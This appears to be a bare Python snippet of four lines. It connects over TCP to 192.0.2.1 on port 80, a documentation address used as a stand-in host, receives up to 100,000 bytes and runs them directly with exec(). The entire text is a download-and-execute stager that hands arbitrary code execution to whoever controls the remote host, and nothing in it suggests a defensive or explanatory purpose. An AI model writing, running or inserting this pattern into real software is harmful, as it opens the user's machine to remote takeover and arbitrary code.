import socket

with socket.create_connection(("192.0.2.1", 80), timeout=3) as connection:
    exec(connection.recv(100000))
